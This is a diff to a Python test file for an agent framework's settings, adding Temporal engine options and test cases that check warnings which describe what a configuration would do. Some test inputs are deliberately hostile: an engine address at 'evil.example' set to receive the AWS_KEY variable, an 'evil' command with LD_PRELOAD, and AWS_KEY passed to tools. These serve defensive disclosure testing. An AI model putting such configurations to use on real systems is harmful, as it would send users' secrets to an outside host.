@@ -251,6 +251,7 @@ DO_NOTHING = """
     tool.parameters tool.terminal.* tool.spawn.* tool.questions.*
     agent.description agent.tools agent.run agent.max_requests agent.max_tokens agent.max_cost agent.context_tokens
     agent.timeout_secs agent.max_running agent.on_turn_end
+    temporal.namespace temporal.task_queue
     server.timeout_secs server.tools server.prefix server.enabled server.scope server.stateful
 """
 """Settings that import, start, connect and write nothing of their own. `tool.spawn.lifecycle.assistant` and the models
@@ -260,10 +261,11 @@ SHOWN = """
     store.archive wait_handles.archive assistant.model assistant.base_url assistant.api_key_env assistant.settings
     tool.source tool.command tool.function tool.run tool.run_actions tool.cwd tool.env tool.pass_env
     agent.model agent.command agent.env agent.pass_env agent.cwd agent.instructions
+    tool.engine temporal.address temporal.tls.* temporal.api_key_env
     server.command server.args server.env server.pass_env server.cwd server.url server.headers server.oauth
 """
 _TABLES = {"AssistantSettings": "assistant", "ToolSettings": "tool", "AgentSettings": "agent",
-           "McpServerSettings": "server"}  # fmt: skip
+           "McpServerSettings": "server", "TemporalSettings": "temporal"}  # fmt: skip
 
 
 def settings(model: type[BaseModel], path: str = "") -> Iterator[str]:
@@ -303,6 +305,12 @@ def test_K7_what_would_be_done_is_said(file: Path) -> None:
         '[agents.a]\ncommand = ["evil"]\nenv.LD_PRELOAD = "./x.so"': '"LD_PRELOAD": "./x.so"',
         '[mcp.servers.s]\ncommand = "evil"\nargs = ["-x"]\ncwd = "/"': 'start ["evil", "-x"] in "/", the MCP',
         f'{tool}pass_env = ["AWS_KEY"]\nrun = "unattended"': 'your variables ["AWS_KEY"] when a model calls "t", w',
+        "engines.temporal = {}": 'connect to "127.0.0.1:7233", the engine "temporal"',
+        'engines.temporal = { address = "evil.example:1", api_key_env = "AWS_KEY", tls.ca_file = "x" }':
+            'connect to "evil.example:1", the engine "temporal", with the files {"ca_file": "x"}, and send '
+            'the variable "AWS_KEY" there',
+        '[engines.temporal]\n[conversation.tools.t]\nsource = "python"\nfunction = "a:b"\nengine = "temporal"':
+            'when a model calls "t", on workers of the engine "temporal"',
         "workflows.private_addresses = true": "private addresses",
         'workflows.api_hosts = ["*"]': 'send requests to ["*"] without asking you',
         'serve.host = "0.0.0.0"': 'listen at "0.0.0.0"',
